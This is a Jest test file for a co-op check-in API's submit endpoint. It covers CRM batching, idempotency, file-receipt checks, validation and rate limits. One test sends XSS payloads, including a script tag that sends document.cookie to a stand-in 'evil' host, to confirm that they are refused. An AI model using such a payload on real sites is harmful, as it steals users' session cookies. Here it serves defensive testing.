import type { ErrorBody, FieldValues, FormDataPayload, SubmitResponse } from '@checkin/contract';
import { randomUUID } from 'node:crypto';
import { OwnerAccessService } from '../src/app/auth/owner-access.service';
import type { RecordedCall } from '@checkin/civicrm-fake/emulator';
import {
  ACTIVITY_CUSTOM_GROUP,
  ACTIVITY_STAGE_FIELD,
  ACTIVITY_TYPE_NAME,
  CONTACT_CUSTOM_GROUP,
  SUBMISSION_ID_FIELD,
} from '../src/app/crm/crm-names';
import {
  createDemoModel,
  DEMO_CURRENT_STAGE,
  DEMO_ORG_ID,
  DEMO_PERSON_ID,
  OTHER_ORG_ID,
} from '../src/app/crm/in-memory/demo-data';
import { FileReceipts } from '../src/app/check-ins/file-receipts';
import { CRM_CLIENT, type CrmClient } from '../src/app/crm/crm-client';
import { CrmError } from '../src/app/crm/crm-errors';
import { ownerQuery, startTestApp, type TestApp, DEMO_LINK } from './support/test-app';
import { TARGET_JOIN } from './support/check-in-join';

/** Emulator latency while checking the order and grouping of calls: each answer takes this long. */
const ROUND_TRIP_MS = 150;
/** The demo history's first owner check-in was recorded with this submissionId. */
const RECORDED_SUBMISSION_ID = '00000000-0000-4000-8000-000000000001';

const activityField = (field: string) => `${ACTIVITY_CUSTOM_GROUP}.${field}`;
const contactField = (field: string) => `${CONTACT_CUSTOM_GROUP}.${field}`;

function name(call: RecordedCall): string {
  return `${call.entity}.${call.action}`;
}

describe('POST /api/submit', () => {
  let service: TestApp;

  beforeAll(async () => {
    service = await startTestApp({
      emulator: { model: createDemoModel() },
      env: { RATE_LIMIT_SUBMITS_PER_MINUTE: '1000' },
    });
  });

  afterAll(async () => {
    await service.close();
  });

  beforeEach(() => {
    service.emulator.reset();
    service.app.get(OwnerAccessService).clear();
  });

  function submit(values: FieldValues, submissionId: string = randomUUID(), link: object = DEMO_LINK) {
    return service.post('/api/submit', { ...link, submissionId, values });
  }

  async function accepted(values: FieldValues, submissionId?: string): Promise<SubmitResponse> {
    const response = await submit(values, submissionId);
    expect(response.status).toBe(201);
    return (await response.json()) as SubmitResponse;
  }

  async function refused(response: Response): Promise<ErrorBody> {
    return (await response.json()) as ErrorBody;
  }

  /**
   * The next batch's activity create fails on its own, as CiviCRM answers a call it refuses
   * within a batch; the batch's other calls run.
   */
  function refuseCreateInNextBatch(): void {
    const client = service.app.get<CrmClient>(CRM_CLIENT);
    const batch = client.batch.bind(client);
    const spy = jest.spyOn(client, 'batch').mockImplementation(async (calls) => {
      const kept = Object.fromEntries(Object.entries(calls).filter(([, [, action]]) => action !== 'create'));
      const refused = Object.keys(calls).filter((key) => !(key in kept));
      if (refused.length > 0) spy.mockRestore();
      const answered = await batch(kept);
      return {
        ...answered,
        ...Object.fromEntries(
          refused.map((key) => [key, { error: new CrmError('failed', key, 'refused in the test') }]),
        ),
      };
    });
  }

  function activityCreates(): RecordedCall[] {
    return service.emulator.callsTo('Activity', 'create');
  }

  /** The values of the newest Activity.create that reached the CRM. */
  function createdValues(): Record<string, unknown> {
    return activityCreates().at(-1)?.params['values'] as Record<string, unknown>;
  }

  function organization(select: string[]): Record<string, unknown> {
    const [row] = service.emulator.model.api4('Contact', 'get', {
      select,
      where: [['id', '=', DEMO_ORG_ID]],
    });
    return row ?? {};
  }

  function checkInsWith(submissionId: string): Record<string, unknown>[] {
    return service.emulator.model.api4('Activity', 'get', {
      select: ['id', 'activity_date_time'],
      where: [[SUBMISSION_ID_FIELD, '=', submissionId]],
    });
  }

  /** What /api/upload would have answered with the file: the receipt for this person, org and field. */
  function receiptFor(field: string, fileId: number, orgId: number = DEMO_ORG_ID): string {
    return service.app.get(FileReceipts).issue({ contactId: DEMO_PERSON_ID, orgId, field, fileId });
  }

  function uploadedFile(fileName: string): number {
    const [row] = service.emulator.model.api4('File', 'create', {
      values: {
        file_name: fileName,
        mime_type: 'application/pdf',
        content: Buffer.from('%PDF-1.4').toString('base64'),
      },
    });
    return Number(row?.['id']);
  }

  describe('recording a check-in', () => {
    it('writes contact-bound values to the organization before creating the activity', async () => {
      await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`);
      service.emulator.clearCalls();
      service.emulator.setLatency(ROUND_TRIP_MS);

      await accepted({ Equity_share: 250, Steering_committee_size: 11 });

      const [update] = service.emulator.callsTo('Contact', 'update');
      const [create] = activityCreates();
      expect(update?.params).toEqual({
        values: { [contactField('Equity_share')]: 250 },
        where: [['id', '=', DEMO_ORG_ID]],
      });
      // In the same batch, the update first: CiviCRM runs a batch's calls in order.
      expect([update?.batchKey, create?.batchKey]).toEqual(['0:Contact.update', '1:Activity.create']);
      expect(organization([contactField('Equity_share')])[contactField('Equity_share')]).toBe(250);
    });

    it('takes two CRM requests with a known checksum: the lookup alone, then the update, the create and the duplicate check as one batch', async () => {
      await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`);
      service.emulator.clearCalls();
      service.emulator.setLatency(ROUND_TRIP_MS);

      await accepted({ Date_Incorporated: '2022-06-02', Organizing_notes: 'Board retreat.' });

      const calls = service.emulator.calls;
      expect(calls.map((call) => [name(call), call.path, call.batchKey])).toEqual([
        ['Activity.get', '/civicrm/ajax/api4/Activity/get', undefined],
        ['Contact.update', '/civicrm/ajax/api4', '0:Contact.update'],
        ['Activity.create', '/civicrm/ajax/api4', '1:Activity.create'],
        ['Activity.get', '/civicrm/ajax/api4', '2:Activity.get'],
      ]);
      const [lookup, update, create, check] = calls;
      expect(create!.at).toBe(update!.at);
      expect(check!.at).toBe(create!.at);
      // The writes went out only after the lookup had been answered.
      expect(update!.at - lookup!.at).toBeGreaterThanOrEqual(ROUND_TRIP_MS - 5);
      expect(check!.params).toEqual(lookup!.params);
    });

    it('sends the lookup alone when no organization value changes', async () => {
      await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`);
      service.emulator.clearCalls();

      await accepted({ Organizing_notes: 'Walked the site.' });

      expect(service.emulator.calls.map((call) => [name(call), call.batchKey])).toEqual([
        ['Activity.get', undefined],
        ['Activity.create', '0:Activity.create'],
        ['Activity.get', '1:Activity.get'],
      ]);
    });

    it('creates one check-in from the person to the organization, its values an object', async () => {
      const submissionId = randomUUID();
      const before = Date.now();
      const response = await accepted(
        {
          Steering_committee_size: 11,
          Organizing_focus: ['groceries', 'deli'],
          Mission_statement_adopted: true,
          Market_study_date: '2026-11-01',
          Percent_capitalized: 12.5,
        },
        submissionId,
      );

      const values = createdValues();
      expect(Array.isArray(values)).toBe(false);
      expect(values).toEqual({
        'activity_type_id:name': ACTIVITY_TYPE_NAME,
        'status_id:name': 'Completed',
        subject: 'Organizing check-in',
        activity_date_time: expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/),
        source_contact_id: DEMO_PERSON_ID,
        target_contact_id: [DEMO_ORG_ID],
        [SUBMISSION_ID_FIELD]: submissionId,
        [activityField('Steering_committee_size')]: 11,
        [activityField('Organizing_focus')]: ['groceries', 'deli'],
        [activityField('Mission_statement_adopted')]: true,
        [activityField('Market_study_date')]: '2026-11-01',
        [activityField('Percent_capitalized')]: 12.5,
      });
      const [stored] = checkInsWith(submissionId);
      expect(response.activityId).toBe(stored?.['id']);
      const submittedAt = Date.parse(response.submittedAt);
      expect(response.submittedAt).toMatch(/Z$/);
      expect(submittedAt).toBeGreaterThanOrEqual(Math.floor(before / 1000) * 1000);
      expect(submittedAt).toBeLessThanOrEqual(Date.now());
      expect(`${String(values['activity_date_time']).replace(' ', 'T')}.000Z`).toBe(response.submittedAt);
    });

    it('writes a file value as its id, on the organization and on the activity', async () => {
      const certificate = uploadedFile('new_certificate.pdf');
      const plan = uploadedFile('plan_v4.pdf');

      await accepted({
        Certificate_of_Incorporation: {
          id: certificate,
          file_name: 'new_certificate.pdf',
          receipt: receiptFor('Certificate_of_Incorporation', certificate),
        },
        Business_plan: { id: plan, file_name: 'plan_v4.pdf', receipt: receiptFor('Business_plan', plan) },
      });

      const [update] = service.emulator.callsTo('Contact', 'update');
      expect(update?.params['values']).toEqual({
        [contactField('Certificate_of_Incorporation')]: certificate,
      });
      expect(createdValues()[activityField('Business_plan')]).toBe(plan);
      const prefill = (
        (await (await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`)).json()) as FormDataPayload
      ).prefill;
      expect(prefill['Certificate_of_Incorporation']).toEqual({
        id: certificate,
        file_name: 'new_certificate.pdf',
      });
      expect(prefill['Business_plan']).toEqual({ id: plan, file_name: 'plan_v4.pdf' });
    });

    describe('file values (docs/decisions.md, "Organization access": only files this person uploaded, or the ones already held)', () => {
      function heldCertificate(orgId: number): number {
        const [row] = service.emulator.model.api4('Contact', 'get', {
          select: [contactField('Certificate_of_Incorporation')],
          where: [['id', '=', orgId]],
        });
        return Number(row?.[contactField('Certificate_of_Incorporation')]);
      }

      async function expectRefused(values: FieldValues, fields: string[]): Promise<void> {
        const response = await submit(values);
        expect(response.status).toBe(400);
        expect(await refused(response)).toMatchObject({ code: 'VALIDATION_FAILED', fields });
        expect(service.emulator.writes()).toEqual([]);
      }

      it("refuses another organization's file, whatever its id, and writes nothing", async () => {
        const hilltop = heldCertificate(OTHER_ORG_ID);
        expect(hilltop).toBeGreaterThan(0);
        await expectRefused({ Certificate_of_Incorporation: { id: hilltop } }, [
          'Certificate_of_Incorporation',
        ]);
        await expectRefused({ Business_plan: { id: hilltop, file_name: 'x.pdf' } }, ['Business_plan']);
      });

      it('answers an unknown id exactly as a known one: no existence oracle', async () => {
        await expectRefused({ Business_plan: { id: 987_654 } }, ['Business_plan']);
      });

      it('refuses a receipt made for another field, organization, file or key', async () => {
        const file = uploadedFile('plan.pdf');
        const otherField = { id: file, receipt: receiptFor('Feasibility_study', file) };
        const otherOrg = { id: file, receipt: receiptFor('Business_plan', file, OTHER_ORG_ID) };
        const otherFile = { id: file, receipt: receiptFor('Business_plan', file + 1) };
        const forged = { id: file, receipt: 'A'.repeat(43) };
        for (const value of [otherField, otherOrg, otherFile, forged]) {
          await expectRefused({ Business_plan: value }, ['Business_plan']);
        }
      });

      it('accepts the files the CRM already holds, sent back from the prefill without a receipt', async () => {
        const prefill = (
          (await (await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`)).json()) as FormDataPayload
        ).prefill;
        const certificate = prefill['Certificate_of_Incorporation'];
        const plan = prefill['Business_plan'];
        expect(certificate).toMatchObject({ id: heldCertificate(DEMO_ORG_ID) });
        expect(plan).toMatchObject({ id: expect.any(Number) });
        service.emulator.clearCalls();

        await accepted({ Certificate_of_Incorporation: certificate ?? null, Business_plan: plan ?? null });
        expect(createdValues()[activityField('Business_plan')]).toBe((plan as { id: number }).id);
      });

      it('refuses, without a receipt, a file a newer check-in cleared: the CRM no longer holds it for the field', async () => {
        const data = async () =>
          (await (await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`)).json()) as FormDataPayload;
        const plan = (await data()).prefill['Business_plan'];
        expect(plan).toMatchObject({ id: expect.any(Number) });
        await accepted({ Business_plan: null });
        expect((await data()).prefill).not.toHaveProperty('Business_plan');
        service.emulator.clearCalls();

        await expectRefused({ Business_plan: plan ?? null }, ['Business_plan']);
      });
    });

    it('never writes Stage, so the staff-set stage stays', async () => {
      await accepted({ Equity_share: 210, Steering_committee_size: 3, Date_Opened: '2026-12-01' });

      const written = [
        ...Object.keys(service.emulator.callsTo('Contact', 'update')[0]?.params['values'] ?? {}),
        ...Object.keys(createdValues()),
      ];
      expect(written.filter((key) => key.endsWith('.Stage'))).toEqual([]);
      expect(createdValues()).not.toHaveProperty(ACTIVITY_STAGE_FIELD);
      const payload = (await (
        await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`)
      ).json()) as FormDataPayload;
      expect(payload.currentStage).toEqual(DEMO_CURRENT_STAGE);
    });

    it('leaves empty activity-bound answers out and clears a contact-bound one sent empty', async () => {
      await accepted({
        Name_on_Incorporation_Certificate: null,
        Steering_committee_size: null,
        Organizing_notes: '',
        Lender_types: [],
        Interest_list_size: 0,
      });

      expect(service.emulator.callsTo('Contact', 'update')[0]?.params['values']).toEqual({
        [contactField('Name_on_Incorporation_Certificate')]: null,
      });
      const values = createdValues();
      expect(values).not.toHaveProperty(activityField('Steering_committee_size'));
      expect(values).not.toHaveProperty(activityField('Organizing_notes'));
      expect(values).not.toHaveProperty(activityField('Lender_types'));
      expect(values[activityField('Interest_list_size')]).toBe(0);
      const name = contactField('Name_on_Incorporation_Certificate');
      expect(organization([name])[name]).toBeNull();
    });

    it('records a cleared activity-bound answer so the next prefill and the report see it cleared', async () => {
      const data = async () =>
        (await (await service.get(`/api/data?${ownerQuery(DEMO_LINK)}`)).json()) as FormDataPayload;
      expect((await data()).prefill['Store_size_sqft']).toEqual(expect.any(Number));

      await accepted({
        Store_size_sqft: null,
        Lender_types: [],
        Equity_share: 260,
      });

      expect(createdValues()[activityField('Cleared_fields')]).toBe('Lender_types,Store_size_sqft');
      const cleared = await data();
      expect(cleared.prefill).not.toHaveProperty('Store_size_sqft');
      expect(cleared.lastGiven).not.toHaveProperty('Store_size_sqft');
      const report = (await (await service.get(`/api/report?${ownerQuery(DEMO_LINK)}`)).json()) as {
        fieldHistory: Record<string, Array<{ value: unknown }>>;
      };
      expect(report.fieldHistory['Store_size_sqft']?.[0]?.value).toBeNull();

      // Answered again later: the new answer is prefilled, dated by its check-in.
      const { submittedAt } = await accepted({ Store_size_sqft: 5100 });
      const answered = await data();
      expect(answered.prefill['Store_size_sqft']).toBe(5100);
      expect(answered.lastGiven?.['Store_size_sqft']).toBe(submittedAt);
    });

    it('records a submission with no values: no contact update, one bare check-in', async () => {
      const submissionId = randomUUID();
      await accepted({}, submissionId);

      expect(service.emulator.callsTo('Contact', 'update')).toEqual([]);
      expect(Object.keys(createdValues()).filter((key) => key.includes('.'))).toEqual([SUBMISSION_ID_FIELD]);
      expect(checkInsWith(submissionId)).toHaveLength(1);
    });

    it('checks select answers against the CRM’s options, and fetches them only when needed', async () => {
      await accepted({ Equity_goal: 1000 });
      expect(service.emulator.callsTo('OptionValue', 'get')).toEqual([]);

      await accepted({ Site_status: '3', Lender_types: ['cdfi', 'grants'] });
      expect(service.emulator.callsTo('OptionValue', 'get')).toHaveLength(1);
      expect(createdValues()).toMatchObject({ [activityField('Site_status')]: '3' });
    });
  });

  describe('idempotency by submissionId', () => {
    it('answers a retry with the first answer and creates one activity', async () => {
      const submissionId = randomUUID();
      const first = await accepted({ Steering_committee_size: 12 }, submissionId);
      const writesAfterFirst = service.emulator.writes().length;

      const retry = await accepted({ Steering_committee_size: 12 }, submissionId);

      expect(retry).toEqual(first);
      expect(service.emulator.writes()).toHaveLength(writesAfterFirst);
      expect(checkInsWith(submissionId)).toHaveLength(1);
    });

    it('creates one activity when the same submission arrives twice at once', async () => {
      const submissionId = randomUUID();
      service.emulator.setLatency(50);

      const [first, second] = await Promise.all([
        accepted({ Steering_committee_size: 13 }, submissionId),
        accepted({ Steering_committee_size: 13 }, submissionId),
      ]);

      expect(second).toEqual(first);
      expect(activityCreates()).toHaveLength(1);
    });

    it('finds a check-in an earlier attempt recorded (on any instance) instead of creating another', async () => {
      const [recorded] = checkInsWith(RECORDED_SUBMISSION_ID);

      const response = await accepted({}, RECORDED_SUBMISSION_ID);

      expect(response).toEqual({
        activityId: recorded?.['id'],
        submittedAt: `${String(recorded?.['activity_date_time']).replace(' ', 'T')}.000Z`,
      });
      expect(activityCreates()).toEqual([]);
      const [lookup] = service.emulator.callsTo('Activity', 'get');
      expect(lookup?.params['join']).toEqual([TARGET_JOIN]);
      expect(lookup?.params['where']).toEqual([
        ['activity_type_id:name', '=', ACTIVITY_TYPE_NAME],
        ['tgt.contact_id', '=', DEMO_ORG_ID],
        [SUBMISSION_ID_FIELD, '=', RECORDED_SUBMISSION_ID],
      ]);
    });
  });

  describe('refusals write nothing', () => {
    it('answers 401 for a wrong checksum', async () => {
      const response = await submit({ Equity_share: 1 }, randomUUID(), { ...DEMO_LINK, cs: 'wrong' });

      expect(response.status).toBe(401);
      expect((await refused(response)).code).toBe('CHECKSUM_INVALID');
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 403 for another organization', async () => {
      const response = await submit({ Equity_share: 1 }, randomUUID(), { ...DEMO_LINK, orgId: OTHER_ORG_ID });

      expect(response.status).toBe(403);
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 UNKNOWN_FIELDS naming identity, derived and unknown names', async () => {
      const response = await submit({
        Equity_share: 1,
        first_name: 'Mallory',
        current_stage: 'open',
        Stage: 'open',
        Secret_field: 'x',
      });

      expect(response.status).toBe(400);
      expect(await refused(response)).toMatchObject({
        statusCode: 400,
        code: 'UNKNOWN_FIELDS',
        fields: ['first_name', 'current_stage', 'Stage', 'Secret_field'],
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 VALIDATION_FAILED naming each invalid answer', async () => {
      const response = await submit({
        Equity_share: 100,
        Steering_committee_size: 'nine',
        Date_Opened: '2026-02-30',
        Site_status: '99',
        Certificate_of_Incorporation: { id: -4 },
      });

      expect(response.status).toBe(400);
      expect(await refused(response)).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: ['Steering_committee_size', 'Date_Opened', 'Site_status', 'Certificate_of_Incorporation'],
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 VALIDATION_FAILED for a percent above 100', async () => {
      const response = await submit({ Percent_capitalized: 150, Y1_Q1_Margin: 100.5 });

      expect(response.status).toBe(400);
      expect(await refused(response)).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: ['Percent_capitalized', 'Y1_Q1_Margin'],
        reasons: { Percent_capitalized: 'enter 100 or less.', Y1_Q1_Margin: 'enter 100 or less.' },
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 VALIDATION_FAILED with TEXT_HAS_MARKUP for text that a browser would read as markup, and writes nothing', async () => {
      const response = await submit({
        Organizing_notes: 'Met the board.<script>fetch("//evil/"+document.cookie)</script>',
        Name_on_Incorporation_Certificate: 'Acme <img src=x onerror=alert(1)>',
      });

      expect(response.status).toBe(400);
      expect(await refused(response)).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: ['Organizing_notes', 'Name_on_Incorporation_Certificate'],
        problems: {
          Organizing_notes: 'TEXT_HAS_MARKUP',
          Name_on_Incorporation_Certificate: 'TEXT_HAS_MARKUP',
        },
        reasons: { Organizing_notes: expect.stringContaining('web page code') },
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('takes text with a "<" that is not markup as written', async () => {
      await accepted({ Organizing_notes: 'Membership grew from < 40 to 52 & we <3 it' });

      expect(createdValues()).toMatchObject({
        [activityField('Organizing_notes')]: 'Membership grew from < 40 to 52 & we <3 it',
      });
    });

    it("refuses a second owner of the co-op reusing another owner's submission id: 409, nothing shared, nothing written", async () => {
      const model = service.emulator.model;
      const [second] = model.api4('Contact', 'create', {
        values: { contact_type: 'Individual', first_name: 'Second', last_name: 'Owner' },
      });
      const secondId = Number(second?.['id']);
      model.api4('Relationship', 'create', {
        values: {
          contact_id_a: secondId,
          contact_id_b: DEMO_ORG_ID,
          'relationship_type_id:name': 'Primary Contact',
        },
      });
      const [issued] = model.api4('Contact', 'getChecksum', { contactId: secondId });
      const submissionId = randomUUID();
      const first = await accepted({ Organizing_notes: 'First owner: met the board.' }, submissionId);

      const reused = await submit({ Organizing_notes: 'Second owner: signed the lease.' }, submissionId, {
        contactId: secondId,
        orgId: DEMO_ORG_ID,
        cid: secondId,
        cs: String(issued?.['checksum']),
      });

      expect(reused.status).toBe(409);
      const body = await refused(reused);
      expect(body).toMatchObject({ code: 'SUBMISSION_ID_IN_USE' });
      expect(JSON.stringify(body)).not.toContain(String(first.activityId));
      expect(activityCreates()).toHaveLength(1);
      // The first owner's retry still answers the first result.
      expect(await accepted({ Organizing_notes: 'First owner: met the board.' }, submissionId)).toEqual(
        first,
      );
    });

    it('answers 400 for a missing submissionId or a body that is not JSON', async () => {
      const noId = await service.post('/api/submit', { ...DEMO_LINK, values: {} });
      expect(noId.status).toBe(400);
      expect((await refused(noId)).fields).toEqual(['submissionId']);

      const garbage = await service.post('/api/submit', '{"cid": 102,');
      expect(garbage.status).toBe(400);
      expect(service.emulator.writes()).toEqual([]);
    });
  });

  describe('when the CRM fails', () => {
    it('answers ACTIVITY_NOT_SAVED when the activity create fails, and a retry records it once', async () => {
      const submissionId = randomUUID();
      refuseCreateInNextBatch();

      const response = await submit({ Equity_share: 260, Steering_committee_size: 14 }, submissionId);

      expect(response.status).toBe(502);
      const body = await refused(response);
      expect(body.code).toBe('ACTIVITY_NOT_SAVED');
      expect(body.message).toMatch(/saved.*kept.*submit again/s);
      expect(organization([contactField('Equity_share')])[contactField('Equity_share')]).toBe(260);
      expect(checkInsWith(submissionId)).toEqual([]);

      await accepted({ Equity_share: 260, Steering_committee_size: 14 }, submissionId);
      expect(checkInsWith(submissionId)).toHaveLength(1);
    });

    it('answers ACTIVITY_NOT_SAVED with 504 when the activity create times out', async () => {
      service.emulator.injectFault({
        kind: 'slow',
        entity: 'Activity',
        action: 'create',
        delayMs: 3_000,
        times: 1,
      });

      const response = await submit({ Steering_committee_size: 15 });

      expect(response.status).toBe(504);
      expect((await refused(response)).code).toBe('ACTIVITY_NOT_SAVED');
    });

    it('answers 502 and records nothing when the request with the contact update fails', async () => {
      service.emulator.injectFault({ kind: 'http500', entity: 'Contact', action: 'update' });
      const submissionId = randomUUID();

      const response = await submit({ Equity_share: 270, Steering_committee_size: 16 }, submissionId);

      expect(response.status).toBe(502);
      expect((await refused(response)).code).toBe('ACTIVITY_NOT_SAVED');
      expect(checkInsWith(submissionId)).toEqual([]);
    });
  });
});

describe('POST /api/submit rate limit', () => {
  let service: TestApp;

  beforeAll(async () => {
    service = await startTestApp({
      emulator: { model: createDemoModel() },
      env: { RATE_LIMIT_SUBMITS_PER_MINUTE: '2' },
    });
  });

  afterAll(async () => {
    await service.close();
  });

  it('answers 429 with Retry-After once the person used up the minute, and writes nothing', async () => {
    const submit = () =>
      service.post('/api/submit', { ...DEMO_LINK, submissionId: randomUUID(), values: {} });
    expect((await submit()).status).toBe(201);
    expect((await submit()).status).toBe(201);
    service.emulator.clearCalls();

    const response = await submit();

    expect(response.status).toBe(429);
    expect(Number(response.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(service.emulator.writes()).toEqual([]);
  });
});
